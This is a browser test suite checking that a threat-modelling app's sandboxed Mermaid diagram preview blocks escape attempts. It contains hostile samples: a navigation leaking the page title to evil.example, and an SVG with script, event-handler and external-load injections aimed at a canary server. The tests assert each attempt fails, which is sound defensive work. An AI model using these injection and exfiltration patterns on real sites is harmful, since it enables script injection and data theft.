// Mermaid's own drawing, shown by the page, and what hostile text can do from inside the frame: nothing.
import { rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { printModel } from '../../../shared/formats/fenceline/model/write-model.ts'
import { ORDERS } from '../../../shared/formats/fenceline/templates/orders.ts'
import { type App, aFolder, openPage, startApp } from '../../support/app.ts'
import { describeBrowser, launchBrowser } from '../../support/browser.ts'
import { mermaidPayloads } from '../../support/mermaid/mermaid-payloads.ts'
import { askFrame, closeFrame, openFrame, showAsImage } from '../../support/models/drawing-frame.ts'
import { aLargeModel } from '../../support/models/large-model.ts'

describeBrowser('the preview that Mermaid draws', () => {
  let browser: Browser
  let app: App
  let page: Page
  let complaints: string[]
  beforeAll(async () => {
    browser = await launchBrowser({ whole: true })
  })
  afterAll(() => browser?.close())
  beforeEach(async () => {
    const folder = aFolder()
    writeFileSync(path.join(folder, 'threat-model.yaml'), ORDERS)
    writeFileSync(path.join(folder, 'large.threat-model.yaml'), printModel(aLargeModel(140, 200)))
    app = await startApp(folder)
    const opened = await openPage(browser, app.url)
    page = opened.page
    complaints = opened.complaints
  })
  afterEach(async () => {
    await page.context().close()
    await app.stop()
    rmSync(app.folder, { recursive: true })
  })

  const openModel = async (name: RegExp) => {
    await page.getByRole('button', { name }).first().click()
    await page.getByRole('textbox', { name: 'Model title' }).waitFor()
  }
  const preview = async () => {
    await page.keyboard.press('Control+Shift+e')
    await page.getByRole('button', { name: 'Preview' }).click()
  }
  /** On a busy machine five seconds may be short, and a person tries again. */
  const untilDrawn = async (name: string) => {
    const image = page.getByRole('img', { name })
    const again = page.getByRole('button', { name: 'Try again' })
    for (let tries = 0; tries < 5; tries += 1) {
      await image.or(again).waitFor()
      if (await image.isVisible()) break
      await again.click()
      await again.waitFor({ state: 'detached' })
    }
    await image.waitFor()
    return image
  }
  const frames = () => page.locator('iframe').count()
  const longestFrame = (milliseconds: number) =>
    page.evaluate(async (ms) => {
      let [last, worst] = [performance.now(), 0]
      const end = last + ms
      while (last < end) {
        await new Promise((resolve) => requestAnimationFrame(resolve))
        const now = performance.now()
        worst = Math.max(worst, now - last)
        last = now
      }
      return worst
    }, milliseconds)

  test('shows the model as an image, asks nobody but its own host, and leaves no frame', async () => {
    const hosts = new Set<string>()
    page.on('request', (request) => {
      if (!request.url().startsWith('blob:')) hosts.add(new URL(request.url()).host)
    })
    await openModel(/Orders Platform/)
    const scripts = () =>
      page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name))
    expect((await scripts()).filter((name) => name.includes('/drawing/'))).toEqual([])
    await preview()
    const image = await untilDrawn('Orders Platform Threat Model, drawn by Mermaid')
    await expect.poll(() => image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBeGreaterThan(500)
    expect(await image.getAttribute('src')).toMatch(/^blob:/)
    expect(await frames()).toBe(0)
    expect(await page.locator('dialog svg[id^=drawing], dialog foreignObject').count()).toBe(0)
    await page.getByRole('button', { name: 'Copy as Mermaid' }).click()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('flowchart LR')
    expect([...hosts]).toEqual([new URL(app.url).host])
    expect(complaints).toEqual([])
  })

  test('a large model is shown by its overview, and each of its diagrams can be chosen', async () => {
    await openModel(/Large/)
    await page.keyboard.press('Control+k')
    await page.keyboard.type('preview as mermaid')
    await page.keyboard.press('Enter')
    await untilDrawn('Large, drawn by Mermaid')
    const list = page.getByRole('navigation', { name: 'Diagrams' })
    expect(await list.getByRole('button').allTextContents()).toEqual(
      ['Overview', 0, 1, 2, 3, 4, 5, 6].map((name) => (name === 'Overview' ? name : `Zone ${name}`)),
    )
    await list.getByRole('button', { name: 'Zone 3' }).click()
    await untilDrawn('Large: Zone 3, drawn by Mermaid')
    await page.getByRole('button', { name: 'Copy this diagram' }).click()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('Large: Zone 3')
    expect(complaints).toEqual([])
  })

  test('S5 a drawing that never ends is stopped after five seconds, and the page goes on meanwhile', async () => {
    const endless = 'window.mermaid = { initialize() {}, render() { for (;;) {} } }'
    await page.route('**/drawing/mermaid.js', (route) =>
      route.fulfill({ body: endless, contentType: 'text/javascript' }),
    )
    await openModel(/Orders Platform/)
    await preview()
    await page.getByText('Mermaid is drawing…').waitFor()
    await expect.poll(frames).toBe(1)
    expect(await longestFrame(3000)).toBeLessThan(700)
    await page.getByText('Mermaid took longer than 5 seconds and was stopped').waitFor({ timeout: 9000 })
    expect(await frames()).toBe(0)
    await page.unroute('**/drawing/mermaid.js')
    await page.getByRole('button', { name: 'Try again' }).click()
    await untilDrawn('Orders Platform Threat Model, drawn by Mermaid')
  })

  test('words of Mermaid that cannot draw are shown with what to do', async () => {
    const refusing =
      'window.mermaid = { initialize() {}, render() { return Promise.reject(new Error("<b>no</b> layout")) } }'
    await page.route('**/drawing/mermaid.js', (route) =>
      route.fulfill({ body: refusing, contentType: 'text/javascript' }),
    )
    await openModel(/Orders Platform/)
    await preview()
    await page.getByText('Mermaid cannot draw this diagram').waitFor()
    await page.getByText('It says: <b>no</b> layout.').waitFor()
  })

  test('S5 the frame has no origin, no parent, no storage, no network and no way out', async () => {
    const frame = await openFrame(page)
    const seen = await frame.evaluate(async () => {
      const attempt = (work: () => unknown) => {
        try {
          return String(work())
        } catch {
          return 'refused'
        }
      }
      const fetched = await fetch(new URL('/index.html', location.href)).then(
        () => 'done',
        () => 'refused',
      )
      const image = new Image()
      const loaded = new Promise((resolve) => {
        image.onload = () => resolve('done')
        image.onerror = () => resolve('refused')
      })
      image.src = new URL('/favicon.ico', location.href).href
      const script = document.createElement('script')
      script.text = 'window.planted = true'
      document.body.append(script)
      return {
        origin: self.origin,
        parent: attempt(() => parent.document.title),
        top: attempt(() => top?.location.href),
        storage: attempt(() => localStorage.length),
        cookie: attempt(() => document.cookie),
        popup: attempt(() => window.open('https://evil.example/')),
        fenceline: 'fenceline' in window,
        planted: 'planted' in window,
        image: await loaded,
        fetched,
      }
    })
    expect(seen).toEqual({
      origin: 'null',
      parent: 'refused',
      top: 'refused',
      storage: 'refused',
      cookie: 'refused',
      popup: 'null',
      fenceline: false,
      planted: false,
      image: 'refused',
      fetched: 'refused',
    })
    const before = page.url()
    await frame.evaluate(() => {
      location.href = `https://evil.example/?${document.title}`
    })
    await page.waitForTimeout(300)
    expect(page.frames().map((one) => one.url())).not.toContain(expect.stringContaining('evil'))
    expect(page.url()).toBe(before)
  })

  test('S5 the frame draws for the page that holds it only, and only a text of a diagram’s size', async () => {
    const frame = await openFrame(page)
    const own = await frame.evaluate(
      () =>
        new Promise((resolve) => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = () => resolve('answered')
          window.postMessage({ draw: 'flowchart LR\n a --> b' }, '*', [port2])
          setTimeout(() => resolve('silent'), 1000)
        }),
    )
    expect(own).toBe('silent')
    for (const wrong of [null, 'flowchart LR', { draw: 1 }, { text: 'flowchart LR\n a' }]) {
      await page.evaluate((data) => {
        const one = document.querySelector<HTMLIFrameElement>('#drawing-under-test')
        one?.contentWindow?.postMessage(data, '*', [new MessageChannel().port1])
      }, wrong)
    }
    const long = `flowchart LR\n  a["${'x'.repeat(60_000)}"]`
    expect(await askFrame(page, long, 1000)).toBeNull()
    expect((await askFrame(page, 'flowchart LR\n  a --> b'))?.svg).toMatch(/^<svg/)
  })

  test('H12 600 edges are refused in words', async () => {
    await openFrame(page)
    const edges = Array.from({ length: 600 }, (_, at) => `  a${at} --> b${at}`)
    const answer = await askFrame(page, `flowchart LR\n${edges.join('\n')}`)
    expect(answer?.svg).toBeUndefined()
    expect(answer?.reason).toMatch(/edges/i)
  })

  test('S5 a loop without end inside the frame does not hold up the page', async () => {
    const frame = await openFrame(page)
    frame
      .evaluate(() => {
        for (;;);
      })
      .catch(() => {})
    expect(await longestFrame(2000)).toBeLessThan(700)
    await closeFrame(page)
    expect(await longestFrame(500)).toBeLessThan(700)
  })

  test('H11 no payload runs a script or reaches a server, in the frame or in the image', async () => {
    const hits: string[] = []
    const canary: Server = createServer((request, response) => {
      hits.push(request.url ?? '')
      response.end()
    })
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', () => resolve()))
    const server = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`
    // The canary hears what is asked of it, or silence would prove nothing.
    await fetch(`${server}/heard`)
    expect(hits.splice(0)).toEqual(['/heard'])
    await page.evaluate(() => {
      window.addEventListener('message', ({ data }) => {
        if (data === 'RAN') document.title = 'RAN'
      })
    })
    const payloads = mermaidPayloads(server)
    expect(payloads).toHaveLength(33)
    let drawn = 0
    const frame = await openFrame(page)
    for (const payload of payloads) {
      const answer = await askFrame(page, payload, 30_000)
      expect(answer, payload).not.toBeNull()
      if (answer?.svg !== undefined) {
        drawn += 1
        expect(await showAsImage(page, answer.svg), payload).toBe(true)
        // What Mermaid made of it, in the frame's own document as well.
        await frame.evaluate((svg) => {
          document.body.innerHTML = svg
        }, answer.svg)
      }
    }
    // What a frame that something has taken over might answer.
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"
      onload="top.postMessage('RAN','*')"><script>top.postMessage('RAN','*')</script><style>@import "${server}/css";</style>
      <image xlink:href="${server}/image"/><use href="${server}/use#x"/><foreignObject width="9" height="9">
      <img xmlns="http://www.w3.org/1999/xhtml" src="${server}/foreign" onerror="top.postMessage('RAN','*')"/>
      <iframe xmlns="http://www.w3.org/1999/xhtml" src="${server}/inner"/></foreignObject></svg>`
    expect(await showAsImage(page, hostile)).toBe(true)
    await page.waitForTimeout(1000)
    canary.close()
    expect(drawn).toBeGreaterThan(20)
    expect(hits).toEqual([])
    expect(await page.title()).not.toBe('RAN')
  }, 180_000)
})
